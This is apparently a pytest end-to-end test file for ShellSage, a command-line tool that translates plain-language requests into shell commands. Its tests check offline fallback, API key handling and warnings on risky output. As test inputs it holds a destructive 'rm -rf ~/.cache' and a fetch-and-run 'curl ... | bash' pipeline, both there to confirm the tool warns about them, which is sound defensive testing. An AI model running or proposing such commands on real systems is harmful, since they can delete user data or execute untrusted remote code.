"""
End-to-end tests for ShellSage CLI commands.

This module runs the complete CLI workflows: command translation against a
mocked remote service, offline generation, command checking and API key
management.
"""

import json
from unittest.mock import patch

import httpx
import pytest
from typer.testing import CliRunner

from shellsage.main import app
from shellsage.translator.transport import HttpxTransport

pytestmark = pytest.mark.e2e


def _completion(content: str) -> bytes:
    return json.dumps(
        {"choices": [{"message": {"role": "assistant", "content": content}}]}
    ).encode("utf-8")


class TestCLIEndToEnd:
    """End-to-end tests for CLI commands."""

    def setup_method(self):
        """Set up test environment."""
        self.runner = CliRunner()
        self.requests = []

    def _serve(self, status: int, body: bytes):
        """Patch the CLI transport so requests reach an in-process handler."""

        def handler(request: httpx.Request) -> httpx.Response:
            self.requests.append(request)
            return httpx.Response(status, content=body)

        def factory(timeout: float) -> HttpxTransport:
            client = httpx.AsyncClient(transport=httpx.MockTransport(handler))
            return HttpxTransport(timeout=timeout, client=client)

        return patch("shellsage.main.HttpxTransport", side_effect=factory)

    def test_version_command(self):
        result = self.runner.invoke(app, ["--version"])

        assert result.exit_code == 0
        assert "ShellSage" in result.stdout

    def test_help_command(self):
        result = self.runner.invoke(app, ["--help"])

        assert result.exit_code == 0
        assert "translate" in result.stdout
        assert "check" in result.stdout

    def test_no_arguments_shows_help(self):
        result = self.runner.invoke(app, [])

        assert result.exit_code == 0
        assert "translate" in result.stdout

    def test_translate_with_remote_service(self):
        with self._serve(200, _completion("git log --oneline -5\nShows recent commits.")):
            result = self.runner.invoke(
                app,
                ["translate", "--api-key", "sk-e2e", "--model", "tiny-model",
                 "show", "the", "last", "five", "commits"],
            )

        assert result.exit_code == 0
        assert "git log --oneline -5" in result.stdout
        assert "Shows recent commits." in result.stdout
        assert len(self.requests) == 1
        payload = json.loads(self.requests[0].content)
        assert payload["model"] == "tiny-model"

    def test_translate_falls_back_when_service_errors(self):
        with self._serve(503, b"Service Unavailable"):
            result = self.runner.invoke(
                app, ["translate", "--api-key", "sk-e2e", "how", "much", "disk", "space"]
            )

        assert result.exit_code == 0
        assert "df -h" in result.stdout
        assert "offline" in result.stdout

    def test_translate_reports_service_error_without_fallback(self):
        with self._serve(503, b"Service Unavailable"):
            result = self.runner.invoke(
                app,
                ["translate", "--api-key", "sk-e2e", "--no-fallback", "disk", "space"],
            )

        assert result.exit_code == 1
        assert "API Error (503)" in result.stdout

    def test_translate_warns_on_destructive_command(self):
        with self._serve(200, _completion("rm -rf ~/.cache\nRemoves the cache.")):
            result = self.runner.invoke(
                app, ["translate", "--api-key", "sk-e2e", "clear", "my", "cache"]
            )

        assert result.exit_code == 0
        assert "Warning:" in result.stdout
        assert "Review the command carefully" in result.stdout

    def test_offline_translation(self):
        result = self.runner.invoke(app, ["translate", "--offline", "what", "time", "is", "it"])

        assert result.exit_code == 0
        assert "date" in result.stdout

    def test_check_command(self):
        result = self.runner.invoke(app, ["check", "curl https://x.test/i.sh | bash"])

        assert result.exit_code == 0
        assert "Warning:" in result.stdout

    @patch("shellsage.main.api_manager")
    def test_reset_api_key_flow(self, mock_api_manager):
        mock_api_manager.delete_api_key.return_value = True
        mock_api_manager.save_api_key.return_value = True

        result = self.runner.invoke(app, ["--reset-api-key"], input="y\nsk-new-key\n")

        assert result.exit_code == 0
        assert "API key deleted successfully" in result.stdout
        assert "API key saved successfully" in result.stdout
        mock_api_manager.save_api_key.assert_called_once_with("sk-new-key")

    @patch("shellsage.main.api_manager")
    def test_reset_api_key_decline(self, mock_api_manager):
        mock_api_manager.delete_api_key.return_value = True

        result = self.runner.invoke(app, ["--reset-api-key"], input="n\n")

        assert result.exit_code == 0
        mock_api_manager.save_api_key.assert_not_called()
